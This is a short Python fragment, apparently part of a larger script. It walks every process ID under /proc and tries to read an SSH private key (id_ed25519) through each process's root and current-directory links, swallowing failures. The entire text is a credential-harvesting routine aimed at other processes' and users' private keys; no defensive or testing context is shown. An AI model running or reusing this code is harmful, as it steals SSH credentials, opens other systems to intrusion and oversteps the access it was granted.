for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for way in ["root", "cwd"]:
        for tail in [home(".ssh/id_ed25519"), ".ssh/id_ed25519"]:
            attempt(way, lambda: read("/proc/%s/%s/%s" % (pid, way, tail.lstrip("/"))))
